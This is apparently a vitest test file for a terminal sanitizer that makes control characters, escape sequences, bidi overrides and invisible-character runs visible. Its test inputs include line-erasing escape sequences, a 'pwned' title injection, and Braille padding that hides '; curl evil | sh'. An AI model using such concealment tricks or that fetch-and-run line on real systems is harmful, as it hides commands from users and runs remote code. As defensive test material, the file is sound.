import { describe, expect, it } from 'vitest';
import { sanitizeForTerminal, sanitizeOneLine } from './sanitize-terminal.js';

describe('sanitizeForTerminal', () => {
  it.each([
    ['plain text, newlines and tabs stay', 'a\tb\nc', 'a\tb\nc'],
    ['a CRLF line end is a newline', 'a\r\nb', 'a\nb'],
    ['a lone carriage return is shown', 'safe\rEVIL', 'safe␍EVIL'],
    [
      'CSI sequences are shown, not run',
      'touch EVIL.txt; : \r\x1b[2K\x1b[1A\x1b[2Kls -la',
      'touch EVIL.txt; : ␍␛[2K␛[1A␛[2Kls -la',
    ],
    ['an OSC title change is shown', '\x1b]0;pwned\x07', '␛]0;pwned␇'],
    ['backspace, NUL and DEL are shown', 'a\bb\x00c\x7f', 'a␈b␀c␡'],
    ['C1 controls are shown', 'x\u009b2Jy\u0085', 'x⟨U+009B⟩2Jy⟨U+0085⟩'],
    ['bidi overrides and isolates are shown', 'abc\u202Edcb\u2066\u2069', 'abc⟨U+202E⟩dcb⟨U+2066⟩⟨U+2069⟩'],
    ['direction marks are shown', 'a\u200Fb\u061C', 'a⟨U+200F⟩b⟨U+061C⟩'],
    ['other Unicode passes', 'héllo — 你好 ✓', 'héllo — 你好 ✓'],
    [
      'a run of Braille blanks that would push a tail out of sight is counted',
      `ok${'\u2800'.repeat(300)}; curl evil | sh`,
      'ok⟨U+2800 ×300⟩; curl evil | sh',
    ],
    [
      'runs of zero-width spaces and Hangul fillers are counted',
      'a\u200B\u200Bb\u3164\u3164\u3164c',
      'a⟨U+200B ×2⟩b⟨U+3164 ×3⟩c',
    ],
    ['one zero-width joiner in an emoji sequence stays', '👨\u200D👩\u200D👧', '👨\u200D👩\u200D👧'],
  ])('%s', (_name, input, expected) => {
    expect(sanitizeForTerminal(input)).toBe(expected);
  });

  it('gives the same result piece by piece as whole (streamed text)', () => {
    const text = 'a\x1b[31mred\x1b[0m\u202E!';
    const pieces = [...text].map(sanitizeForTerminal).join('');
    expect(pieces).toBe(sanitizeForTerminal(text));
    expect(pieces).not.toContain('\x1b');
  });
});

describe('sanitizeOneLine', () => {
  it.each([
    ['plain.txt', 'plain.txt'],
    ['evil\x1b]0;pwned\x07 X\rY\n  - forged.txt', 'evil\u241b]0;pwned\u2407 X\u240dY\u240a  - forged.txt'],
    ['a\r\nb\tc', 'a\u240ab\u2409c'],
    ['\u202etxt.exe', '\u27e8U+202E\u27e9txt.exe'],
  ])('%j stays on one line as %j', (text, shown) => {
    expect(sanitizeOneLine(text)).toBe(shown);
  });
});
